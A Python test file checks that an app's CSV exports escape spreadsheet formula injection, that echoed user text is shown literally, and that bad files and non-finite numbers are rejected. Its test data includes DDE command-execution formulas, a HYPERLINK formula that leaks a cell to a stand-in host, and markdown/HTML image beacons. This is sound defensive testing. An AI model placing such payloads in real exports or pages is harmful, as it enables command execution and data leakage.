"""The calculator and table exports against hostile input: spreadsheet formula injection in CSV exports, file
size and kind limits on reads, non-finite and overflowing numbers, and user text echoed back on the page."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pandas as pd
import pytest

from bot.app.cli import main
from bot.app.ui import notify
from bot.app.ui.calc_tab import LAYER_EQUAL, SCORES, CalcTab
from bot.app.ui.tables_tab import TablesTab
from bot.core.settings import Settings
from tools import calc, userdata
from tools.errors import ToolError
from tools.export import csv_cell, write_csv

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "=HYPERLINK(\"http://127.0.0.1:9/?leak=\"&A1,\"点我\")",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_leading_cells_are_escaped(cell):
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-3.5", "+2", "-1", "12%", "成都市", "a=b", "", 3, -2.5, None])
def test_numbers_and_plain_text_are_left_alone(cell):
    assert csv_cell(cell) == cell


def _read_back(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_write_csv_escapes_cells_and_headers(tmp_path):
    frame = pd.DataFrame({"城市": FORMULAS, "=指标": range(len(FORMULAS)), "变化": [-1.0] * len(FORMULAS)})
    write_csv(frame, tmp_path / "out.csv")
    rows = _read_back(tmp_path / "out.csv")
    assert rows[0] == ["城市", "'=指标", "变化"]
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    assert all(r[2] == "-1.0" for r in rows[1:])  # numbers stay numbers


def test_calculator_download_escapes_uploaded_names(tmp_path):
    indicators = tmp_path / "indicators.csv"
    indicators.write_text(
        "城市,云计算,人工智能\n\"=cmd|' /C calc'!A0\",10,20\n@SUM(1),30,40\n乙市,5,6\n", encoding="utf-8"
    )
    scores = tmp_path / "scores.csv"
    scores.write_text("专家,云计算,人工智能\n张,5,3\n李,4,4\n", encoding="utf-8")
    tab = CalcTab(tmp_path / "downloads")
    note, table, _, _, path, _ = tab.compute(
        str(indicators), SCORES, str(scores), None, LAYER_EQUAL, None, None
    )
    assert "已计算 3 个城市" in note
    cities = [r[0] for r in _read_back(Path(path))[1:]]
    assert sorted(cities) == sorted(["'=cmd|' /C calc'!A0", "'@SUM(1)", "乙市"])


def test_tables_export_and_filter_echo(tmp_path):
    tab = TablesTab(Settings(), tmp_path)
    name = tab._catalog()[0]["name"]
    typed = "![x](http://127.0.0.1:9/leak.png) <img src=http://127.0.0.1:9/y.png>"
    info, shown, path = tab.view(name, typed, None, "升序")
    assert "![x](" not in info and "<img" not in info and "\\!\\[x\\]" in info
    assert shown.empty
    info, shown, path = tab.view(name, "成渝", None, "升序")
    rows = _read_back(Path(path))
    assert len(rows) == len(shown) + 1 and all("成渝" in ",".join(r) for r in rows[1:])


def test_cli_tables_export_uses_the_safe_writer(tmp_path, capsys):
    assert main(["tables", "--export", str(tmp_path / "out")]) == 0
    files = list((tmp_path / "out").glob("*.csv"))
    assert files
    for f in files:
        for row in _read_back(f):
            for cell in row:
                assert not cell.startswith(("=", "@", "\t", "\r")), (f.name, cell)


def test_echoed_text_in_messages_is_shown_literally():
    shown = notify.inline("指标数据有非数字的单元格：第2行“A”列的“![x](http://127.0.0.1:9/a.png)”")
    assert "![x](" not in shown and "\\!\\[x\\]\\(" in shown


# ---------------------------------------------------------------- reads and numbers


def test_devices_and_pipes_are_refused_without_reading(tmp_path):
    with pytest.raises(ToolError, match="不是普通文件"):
        userdata.read_csv("/dev/zero", "指标数据")
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    with pytest.raises(ToolError, match="不是普通文件"):
        userdata.read_csv(fifo, "指标数据")  # opening a FIFO would block: it is never opened


def test_large_files_are_refused(tmp_path, monkeypatch):
    big = tmp_path / "big.csv"
    big.write_text("城市,A\n" + "甲,1\n" * 1000, encoding="utf-8")
    monkeypatch.setattr(userdata, "MAX_CSV_BYTES", 1000)
    with pytest.raises(ToolError, match="超过"):
        userdata.read_csv(big, "指标数据")


@pytest.mark.parametrize("cell", ["inf", "-inf", "Infinity", "nan", "1e999"])
def test_non_finite_cells_are_rejected_by_name(tmp_path, cell):
    f = tmp_path / "x.csv"
    f.write_text(f"城市,A\n甲,{cell}\n乙,2\n", encoding="utf-8")
    with pytest.raises(ToolError) as err:
        userdata.numeric_frame(userdata.read_csv(f, "指标数据"), "指标数据", id_label="城市")
    assert "无穷大" in str(err.value) and f"“{cell}”" in str(err.value)


def test_overflowing_sums_are_rejected_not_counted_as_zero(tmp_path):
    ind = tmp_path / "ind.csv"
    ind.write_text("城市,A,B\n甲,1e308,1\n乙,1e308,2\n", encoding="utf-8")
    scores = tmp_path / "s.csv"
    scores.write_text("专家,A,B\n张,5,3\n", encoding="utf-8")
    with pytest.raises(ToolError, match="超出可计算的范围"):
        calc.index_from_files(ind, scores=scores)
    with pytest.raises(ToolError, match="超出可计算的范围"):
        calc.calc_normalise({"a": 1e308, "b": 1e308})
    with pytest.raises(ToolError, match="超出可计算的范围"):
        calc.calc_weighted_index({"a": 1e308, "b": 1e308}, {"a": 1, "b": 1})
    with pytest.raises(ToolError, match="超出可计算的范围"):
        calc.calc_growth(1e308, 1e-308)


@pytest.mark.parametrize(
    ("call", "message"),
    [
        (lambda: calc.calc_growth(float("inf"), 100), "不是有限的数字"),
        (lambda: calc.calc_industry_share(float("nan"), 5), "不是有限的数字"),
        (lambda: calc.calc_mean_growth([1, float("inf")]), "不是有限的数字"),
        (lambda: calc.calc_normalise({"a": 3}, base_total=float("inf")), "不是有限的数字"),
        (lambda: calc.calc_normalise({"甲": -5}), "不能为负数：甲"),  # was: 合计为 0
        (lambda: calc.calc_normalise({"甲": -5, "乙": 10}), "不能为负数：甲"),
        (lambda: calc.calc_growth(-5, 100), "不能为负数"),
    ],
)
def test_bad_numbers_get_the_right_message(call, message):
    with pytest.raises(ToolError, match=message):
        call()


def test_cli_calc_rejects_inf_in_one_sentence(capsys):
    assert main(["calc", "growth", "--current", "inf", "--previous", "100"]) != 0
    err = capsys.readouterr().err
    assert err.startswith("错误：") and "不是有限的数字" in err and "Traceback" not in err
